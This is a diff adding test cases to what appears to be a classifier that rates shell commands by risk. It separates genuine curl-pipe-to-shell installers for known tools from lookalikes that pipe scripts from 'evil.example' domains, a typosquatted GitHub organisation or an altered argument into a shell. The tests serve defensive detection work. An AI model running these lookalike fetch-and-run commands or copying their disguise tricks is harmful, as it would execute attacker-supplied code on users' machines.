@@ -114,6 +114,8 @@ def of_makers(command: str) -> bool:
         "sh <(curl -L https://nixos.org/nix/install) --daemon",
         "bash <(curl -fsSL https://railway.com/install.sh)",
         "irm bun.sh/install.ps1 | iex",
+        'sh -c "$(curl -fsLS get.chezmoi.io)" -- init --apply $GITHUB_USERNAME',
+        "curl -fsSL https://github.com/charmbracelet/gum/releases/download/v1/install.sh | sh",
     ],
 )
 def test_the_installer_of_a_well_known_tool_is_low_in_whatever_form(command: str) -> None:
@@ -129,6 +131,9 @@ def test_the_installer_of_a_well_known_tool_is_low_in_whatever_form(command: str
         "curl -fsSL https://huggingface.co/a/b/resolve/main/i.sh | bash",
         "curl -fsSL https://bun.sh/install | sudo bash",
         "irm bun.sh.evil.example/install.ps1 | iex",
+        'sh -c "$(curl -fsLS get.chezmoi.io $MORE)"',
+        "curl -fsLS get.chezmoi.io.evil.example | sh",
+        "curl -fsSL https://github.com/charmbracelet-labs/gum/releases/download/v1/install.sh | sh",
     ],
 )
 def test_what_only_looks_like_one_is_not(command: str) -> None:
